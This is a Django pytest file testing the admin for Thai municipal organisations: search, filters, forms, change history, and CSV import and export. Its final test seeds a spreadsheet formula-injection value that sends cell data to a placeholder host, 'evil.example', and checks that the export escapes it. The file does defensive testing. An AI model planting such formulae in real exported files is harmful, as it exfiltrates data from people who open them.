from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from municipalities.models import Organisation, OrganisationKind, Region
from tests.factories.accounts import UserFactory
from tests.factories.municipalities import OrganisationFactory, registry_load

CHANGELIST = "admin:municipalities_organisation_changelist"


@pytest.fixture
def admin_client(client, db):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def registry(db):
    return {o.dla_code: o for o in registry_load(["3500102", "2500101", "3950102", "5450802"])}


def listed(client, **params) -> set[str]:
    response = client.get(reverse(CHANGELIST), params)
    assert response.status_code == 200
    return {o.dla_code for o in response.context["cl"].result_list}


@pytest.mark.parametrize(
    ("term", "expected"),
    [
        ("ยะลา", {"3950102"}),
        ("Yala", {"3950102"}),
        ("3500102", {"3500102"}),
        ("เชียงใหม่", {"3500102", "2500101", "5450802"}),
    ],
)
def test_admin_search_in_thai_english_and_code(admin_client, registry, term, expected):
    assert listed(admin_client, q=term) == expected


def test_admin_filters(admin_client, registry):
    south = Region.objects.get(code="south")
    registry["3950102"].is_verified = True
    registry["3950102"].save()

    assert listed(admin_client, province__region__id__exact=south.pk) == {"3950102"}
    assert listed(admin_client, kind__exact="provincial_admin_org") == {"2500101"}
    assert listed(admin_client, is_pilot__exact="1") == {"3500102", "3950102"}
    assert listed(admin_client, is_verified__exact="1") == {"3950102"}
    assert listed(admin_client, province__id__exact=registry["5450802"].province_id) == {"5450802"}


def test_admin_adds_an_organisation_without_dla_code(admin_client, db):
    response = admin_client.post(
        reverse("admin:municipalities_organisation_add"),
        {
            "dla_code": "",
            "kind": OrganisationKind.UNIVERSITY,
            "name_th": "มหาวิทยาลัยเชียงใหม่",
            "name_en": "Chiang Mai University",
            "website": "https://www.cmu.ac.th",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    university = Organisation.objects.get(name_en="Chiang Mai University")
    assert university.dla_code is None
    assert university.sort_key.startswith("มหาวิทยาลัยเชียงใหม่"[:1])


def test_admin_refuses_a_bad_dla_code(admin_client, db):
    response = admin_client.post(
        reverse("admin:municipalities_organisation_add"),
        {"dla_code": "12AB", "kind": OrganisationKind.OTHER, "name_th": "ทดสอบ"},
    )

    assert response.status_code == 200
    assert "dla_code" in response.context["adminform"].form.errors
    assert not Organisation.objects.exists()


def test_admin_changes_the_kind_and_keeps_its_history(admin_client, registry):
    org = registry["5450802"]
    with translation.override("en"):
        url = reverse("admin:municipalities_organisation_change", args=[org.pk])
    form = admin_client.get(url).context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and k in form.fields}
    data.update(kind=OrganisationKind.TOWN_MUNICIPALITY, name_th="เทศบาลเมืองเชียงใหม่")

    response = admin_client.post(url, data)

    assert response.status_code == 302
    org.refresh_from_db()
    assert org.kind == OrganisationKind.TOWN_MUNICIPALITY
    assert list(org.events.order_by("pgh_id").values_list("kind", flat=True)) == [
        "subdistrict_municipality",
        "town_municipality",
    ]
    page = admin_client.get(url).content.decode()
    assert re.search(r"Subdistrict municipality</li>\s*<li>[^<]*Town municipality", page)


def test_admin_csv_import_previews_row_errors_then_imports(admin_client, registry):
    csv = (
        "dla_code,kind,name_th,short_name_th,name_en,province_code,district_code\n"
        "6500197,subdistrict_admin_org,องค์การบริหารส่วนตำบลใหม่,ใหม่,New SAO,50,5001\n"
        "12X,subdistrict_admin_org,องค์การบริหารส่วนตำบลผิด,ผิด,Bad,50,5001\n"
    ).encode()
    with translation.override("en"):
        url = reverse("admin:municipalities_organisation_import")

    preview = admin_client.post(
        url, {"import_file": SimpleUploadedFile("orgs.csv", csv), "format": "0", "resource": "0"}
    )

    body = preview.content.decode()
    assert preview.status_code == 200
    assert "7 digits" in body  # the row-level error of the bad code
    assert not Organisation.objects.filter(dla_code="6500197").exists()  # preview only

    good = csv.decode().splitlines()[:2]
    preview = admin_client.post(
        url,
        {
            "import_file": SimpleUploadedFile("orgs.csv", "\n".join(good).encode()),
            "format": "0",
            "resource": "0",
        },
    )
    confirm = preview.context["confirm_form"]
    with translation.override("en"):
        process = reverse("admin:municipalities_organisation_process_import")
    done = admin_client.post(process, confirm.initial)

    assert done.status_code == 302
    created = Organisation.objects.get(dla_code="6500197")
    assert (created.name_en, created.province.code, created.district.code) == (
        "New SAO",
        "50",
        "5001",
    )
    assert created.sort_key


def test_admin_csv_export_has_the_dla_codes(admin_client, registry):
    response = admin_client.post(
        reverse("admin:municipalities_organisation_export"),
        {
            "format": "0",
            "resource": "0",
            **{f"organisationresource_{f}": "on" for f in ("dla_code", "name_th", "province")},
        },
    )

    assert response.status_code == 200
    assert "3500102" in response.content.decode()


def test_admin_csv_export_escapes_formulae(admin_client, registry):
    Organisation.objects.filter(dla_code="3500102").update(name_en="@SUM(A1:A9)")
    OrganisationFactory(dla_code=None, name_th='=HYPERLINK("http://evil.example/"&A1)')
    response = admin_client.post(
        reverse("admin:municipalities_organisation_export"),
        {
            "format": "0",
            "resource": "0",
            **{f"organisationresource_{f}": "on" for f in ("dla_code", "name_th", "name_en")},
        },
    )

    cells = {c for row in csv.reader(io.StringIO(response.content.decode())) for c in row}
    assert {"'@SUM(A1:A9)", '\'=HYPERLINK("http://evil.example/"&A1)'} <= cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
